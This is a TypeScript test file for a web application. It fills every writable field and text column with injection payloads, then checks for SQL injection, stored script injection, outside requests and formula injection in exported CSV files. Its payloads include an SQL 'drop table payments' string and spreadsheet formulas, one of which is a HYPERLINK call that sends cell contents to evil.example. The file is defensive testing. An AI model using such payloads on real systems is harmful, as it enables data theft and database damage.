// T27, T36, T37: two hundred polyglots in every field that anybody can write to. The fields are found, not listed: the forms of every
// route that changes something, and every column that takes free words, whoever wrote into it.

import test from 'ava'
import { routes, type RouteName, type Row } from '../../web/routes.ts'
import { openBrowser, openWindow } from '../support/browser.ts'
import { openDesk } from './desk-work.ts'
import { openDoor, signedIn } from './door.ts'
import { openHotspotDay } from './hotspot-day.ts'
import { hireStaff, openKilima } from './kilima.ts'
import { listColumns, poison, readVocabulary, strangersIn, type Column } from './poison.ts'
import { polyglots } from './polyglots.ts'
import { actsOf } from './role-acts.ts'

const door = await openDoor({ LANGO_TRIAL: 'yes' })
const { appliance, clock, origin } = door
const { db } = appliance
await hireStaff(appliance)
const kilima = await openKilima(appliance, clock)
await openHotspotDay({ appliance, clock })
await openDesk({ appliance }, kilima)
await db('sms_gateway').delete() // An act adds it.
const acts = actsOf({ appliance, clock, kilima })
const owner = await signedIn(origin, 'owner')
const { id: owner_id } = (await db('staff').where({ role: 'owner' }).first('id'))!
const ours = await readVocabulary()
test.after.always(() => door.close())

const table = (Object.entries(routes) as [RouteName, Row][]).filter(
  ([name, { roles }]) =>
    roles !== 'anyone' && roles.includes('owner') && name !== 'DELETE /sign-in' && !/sign-ins/.test(name),
) // prettier-ignore
const marker = `Robert'); drop table payments;-- "x" {{password}} $1 ?? :name`
const everything = polyglots.join(' ')

async function actOf(name: RouteName) {
  return (await acts[name]?.(owner_id, 'owner')) ?? { path: name.split(' ')[1]! }
}

test.serial('T36: no field of any form takes quotes for SQL, and what is kept is kept unchanged', async (t) => {
  const tables = async () => (await listColumns(appliance)).length
  const before = await tables()
  let fields = 0
  for (const [name, { changes }] of table) {
    if (changes === null) continue
    const { fields: sent = {} } = await actOf(name)
    const names = Object.keys(sent)
    const bad = [
      ...names.map((field) => ({ [field]: marker })),
      Object.fromEntries(names.map((field) => [field, everything])),
    ]
    let act = await actOf(name)
    for (const fields of names.length > 0 ? bad : []) {
      const path = name.startsWith('DELETE ') ? `${act.path}?_method=delete` : act.path
      const answer = await owner.post(path, { ...act.fields, ...fields })
      t.true(answer.status < 500, `${name} ${Object.keys(fields).join(' ')} ${answer.status}`)
      if (answer.status < 400) act = await actOf(name) // It was taken: the next needs a form of its own.
      if (!answer.headers.get('content-type')?.startsWith('text/html')) continue
      t.deepEqual(strangersIn(answer.html, ours), [], `${name} ${Object.keys(fields).join(' ')}`)
    }
    fields += names.length
  }
  t.true(fields > 100, `${fields}`)
  t.is(await tables(), before)
  let kept = 0
  for (const { table: of, name } of await listColumns(appliance)) {
    for (const words of await db(of as never).whereLike(name, '%drop table%').pluck(name)) {
      if (String(words).includes(marker)) kept += 1
      else t.true(polyglots.some((one) => String(words).includes(one.trim())), `${of}.${name}: ${words}`)
    }
  }
  t.true(kept >= 10, `${kept}`)
}) // prettier-ignore

/** Every page of the table, as somebody who may see all of them. */
async function pages(): Promise<string[]> {
  const paths: string[] = []
  for (const [name, { changes }] of table) {
    if (changes !== null || name.includes('/exports/')) continue
    const { path } = await actOf(name)
    if (!path.includes(':')) paths.push(path)
  }
  return paths
}

// Words of our own that no constraint guards, because another release may have others: pages read them as names.
const keptByUs =
  /^(audit|settings?|upkeep|provider_checks\.(target|step)|.*\.(action|state|kind|language|provider|channel|rail|event|task|name_of)$)/

async function freeColumns(): Promise<Column[]> {
  return (await listColumns(appliance)).filter(({ table: of, name }) => !keptByUs.test(`${of}.${name}`)) // prettier-ignore
}

test.serial('T27: every column that takes words, on every page: no tag, attribute or address but our own', async (t) => {
  const paths = await pages()
  t.true(paths.length > 60, `${paths.length}`)
  const took = await poison(appliance, await freeColumns(), everything, polyglots)
  for (const path of paths) {
    const { status, html, headers } = await owner.get(path)
    t.true(status < 500, `${path} ${status}`)
    if (headers.get('content-type')?.startsWith('text/html')) t.deepEqual(strangersIn(html, ours), [], path)
  }
  t.true(took.length > 60, `${took.length}`)
}) // prettier-ignore

test.serial('T27: a real browser runs nothing of any of them: no dialog, no violation, no other host', async (t) => {
  const browser = await openBrowser()
  try {
    const window = await openWindow(browser, origin, { width: 1280, scheme: 'light' }, owner.cookie())
    const page = await window.newPage()
    const trouble: string[] = []
    page.on('dialog', (dialog) => {
      trouble.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    page.on('console', (message) => {
      if (['error', 'warning'].includes(message.type())) trouble.push(`${page.url()} ${message.text()}`)
    })
    page.on('pageerror', (error) => trouble.push(`${page.url()} ${error.message}`))
    page.on('request', (request) => {
      if (!request.url().startsWith(origin)) trouble.push(`request ${request.url()}`)
    })
    const half = (await pages()).filter((_, at) => at % 2 === 0)
    for (const path of half) await page.goto(path, { waitUntil: 'domcontentloaded' })
    t.deepEqual(trouble, [])
  } finally {
    await browser.close()
  }
}) // prettier-ignore

const formulas = ['=HYPERLINK("https://evil.example/?x="&A1,"Pay")', '+1', '-1+cmd|x', '@SUM(A1)', '\t=1', '＝1'] // prettier-ignore

test.serial('T37: every column that takes words, in every file there is: no cell is a formula', async (t) => {
  const files = table.filter(([, { changes }]) => changes === 'list.exported').map(([name]) => name)
  t.true(files.length >= 6)
  await poison(appliance, await freeColumns(), formulas[0]!, formulas)
  for (const name of files) {
    const { html, status } = await owner.post(name.replace('POST ', ''), {})
    t.is(status, 200, name)
    const cells = [...html.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell]) => cell!)
    t.true(cells.length > 10, name)
    for (const cell of cells)
      t.true(!/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), `${name} ${cell}`)
  }
}) // prettier-ignore
